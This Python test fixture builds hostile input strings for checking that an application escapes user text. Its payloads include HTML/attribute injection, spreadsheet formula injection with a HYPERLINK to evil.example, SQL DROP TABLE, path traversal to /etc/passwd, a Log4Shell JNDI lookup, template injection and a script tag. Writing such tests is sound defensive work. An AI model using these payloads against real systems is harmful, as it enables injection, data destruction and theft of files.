"""What somebody may type wherever a text can be typed, and marks by which it is found again."""

from __future__ import annotations

from zlib import crc32

from tests.maps.hostile import HOSTILE

TAG = "hit-me"
"""An element or attribute of this name can only have been made from a text."""
LEADS = (
    f"<{TAG}>",
    f'" {TAG}="1',
    f"' {TAG}='1",
    f"x {TAG}=1 ",
    f"--><{TAG}>",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "＝1+1",
)
"""A formula must stand first to be one."""
FURTHER = (
    "Robert'); DROP TABLE site;--",
    "../../../etc/passwd",
    "..\\..\\boot.ini",
    "%2e%2e%2f",
    "🏭𠮷",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
)
WHOLE = " ".join((*(text.replace("\x00", "") for text in HOSTILE), *FURTHER))
KEY = f"=1+1\"><{TAG}>'{{{{7*7}}}}"
"""A number that a ledger gave a row."""
NAME = f"=1+1<{TAG}>\" {TAG}=\"1' {TAG}='1 {{{{7*7}}}}<script>hit()</script>"
"""A person's name; it may have 80 signs."""


def led(word: str) -> str:
    """Make one hostile text of one word: what fits together still does."""
    return f"{LEADS[crc32(word.encode()) % len(LEADS)]}{word}"


def spoilt(word: str) -> str:
    """Make it, and let every other hostile text follow."""
    return f"{led(word)} {WHOLE}"
